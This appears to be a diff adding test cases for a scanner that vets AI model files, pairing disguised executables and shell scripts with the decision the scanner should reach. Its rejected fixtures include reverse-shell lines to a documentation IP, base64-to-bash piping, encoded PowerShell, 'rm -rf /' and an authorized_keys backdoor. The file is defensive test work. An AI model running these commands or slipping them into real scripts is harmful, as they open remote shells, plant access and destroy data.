@@ -1,0 +1,160 @@
+"""Programs and scripts in a model: in their own names, and disguised."""
+
+from __future__ import annotations
+
+import io
+import struct
+import zipfile
+from collections.abc import Mapping
+from typing import Literal
+
+from openvet.testing.case import Case
+
+__all__ = ["CASES"]
+
+_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)
+_PE = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(40)
+_MACHO = bytes.fromhex("cffaedfe0700000103000000") + bytes(40)
+_WASM = b"\0asm\x01\0\0\0" + bytes(8)
+_CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40)
+
+
+def _llamafile() -> bytes:
+    """The head of a portable program, and a zip with weights behind it."""
+    head = b"MZqFpD='\n" + bytes(64)
+    out = io.BytesIO(head)
+    out.seek(0, io.SEEK_END)
+    with zipfile.ZipFile(out, "a") as archive:
+        archive.writestr(zipfile.ZipInfo(".args"), "-m\nmodel.gguf\n")
+    return out.getvalue()
+
+
+def _zip(**members: bytes) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(zipfile.ZipInfo(name.replace("__", "/").replace("_DOT_", ".")), data)
+    return out.getvalue()
+
+
+def _case(
+    name: str,
+    technique: str,
+    made: bytes | Mapping[str, bytes],
+    decision: Literal["admit", "review", "reject"],
+    *rules: str,
+    file: str = "model.bin",
+    formats: tuple[str, ...] = (),
+) -> Case:
+    return Case(f"program/{name}", technique, lambda: made, decision, frozenset(rules), formats, name=file)
+
+
+def _disguised(name: str, made: bytes, file: str, *more: str) -> Case:
+    return _case(
+        name, f"a program named {file}", made, "reject", "file/disguised-program", "file/native-code", *more, file=file
+    )
+
+
+def _script(name: str, line: str, file: str = "setup.sh") -> Case:
+    return _case(
+        name,
+        "a script with a dangerous line",
+        f"#!/bin/bash\n{line}\n".encode(),
+        "reject",
+        "shell/dangerous-command",
+        file=file,
+        formats=("shell",),
+    )
+
+
+CASES: tuple[Case, ...] = (
+    _disguised("elf-as-bin", _ELF, "model.bin"),
+    _disguised("elf-as-safetensors", _ELF, "model.safetensors", "file/name-mismatch"),
+    _disguised("elf-as-picture", _ELF, "logo.png", "file/name-mismatch"),
+    _disguised("pe-as-bin", _PE, "model.bin"),
+    _disguised("pe-as-weights", _PE, "model.pt"),
+    _disguised("mach-o-as-weights", _MACHO, "model.gguf", "file/name-mismatch"),
+    _disguised("wasm-as-text", _WASM, "notes.txt", "file/name-mismatch"),
+    _disguised("class-as-weights", _CLASS, "model.bin"),
+    _disguised("llamafile-as-weights", _llamafile(), "model.bin", "archive/hidden-data"),
+    _case(
+        "elf-in-zip",
+        "a program named weights.bin in an archive",
+        _zip(weights_DOT_bin=_ELF),
+        "reject",
+        "file/disguised-program",
+        "file/native-code",
+        file="model.zip",
+    ),
+    _case(
+        "script-as-weights", "a script named model.bin", b"#!/bin/sh\necho pwned\n", "reject", "file/disguised-program"
+    ),
+    _case(
+        "script-as-settings",
+        "a script named config.json",
+        b"#!/bin/sh\necho pwned\n",
+        "reject",
+        "file/disguised-program",
+        file="config.json",
+    ),
+    _script("network-shell", "bash -i >& /dev/tcp/203.0.113.1/443 0>&1"),
+    _script("network-shell-nc", "nc -e /bin/sh 203.0.113.1 443"),
+    _script(
+        "network-shell-joined", 'ba""sh -i >& /dev/t\\\ncp/203.0.113.1/443'.replace("/dev/t\\\ncp", "\\\n/dev/tcp")
+    ),
+    _script("decoded", "echo ZWNobyBwd25lZA== | base64 -d | bash"),
+    _script("deletes", "rm -rf / "),
+    _script("login-key", "echo key >> ~/.ssh/authorized_keys"),
+    _script("encoded-powershell", "powershell -enc ZQBjAGgAbwAgAHAAdwBuAGUAZAA=", "run.bat"),
+    _case(
+        "llamafile",
+        "a portable program with its archive, under its own name",
+        _llamafile(),
+        "review",
+        "archive/hidden-data",
+        "file/native-code",
+        file="model.llamafile",
+        formats=("zip", "ape"),
+    ),
+    _case(
+        "library",
+        "a library beside the weights",
+        {"custom_ops.so": _ELF, "README.md": b"# A model\n"},
+        "review",
+        "file/native-code",
+    ),
+    _case("windows-library", "a library of Windows", _PE, "review", "file/native-code", file="ops.dll"),
+    _case("jar", "Java classes", _zip(a__B_DOT_class=_CLASS), "review", "file/native-code", file="model.jar"),
+    _case(
+        "installer",
+        "a script that runs a download",
+        b"#!/bin/sh\ncurl -sSL https://example.org/install | sh\n",
+        "review",
+        "shell/runs-download",
+        file="install.sh",
+        formats=("shell",),
+    ),
+    _case(
+        "training-script",
+        "an ordinary script",
+        b"#!/bin/bash\nset -e\n# curl x | sh is a bad idea\nrm -rf ./out /tmp/cache\n"
+        b"python train.py --data /dev/shm \\\n  | tee log.txt\nwget https://example.org/a.tar && tar xf a.tar\n",
+        "admit",
+        file="train.sh",
+        formats=("shell",),
+    ),
+    _case(
+        "batch",
+        "an ordinary batch file",
+        b"@echo off\r\npython run.py\r\npause\r\n",
+        "admit",
+        file="run.bat",
+        formats=("shell",),
+    ),
+    _case(
+        "instructions", "a script written down as instructions", b"#!/bin/bash\necho hello\n", "admit", file="steps.txt"
+    ),
+    _case(
+        "text-about-mz", "a text that begins with MZ", b"MZ is how programs of DOS begin.\n", "admit", file="notes.txt"
+    ),
+)
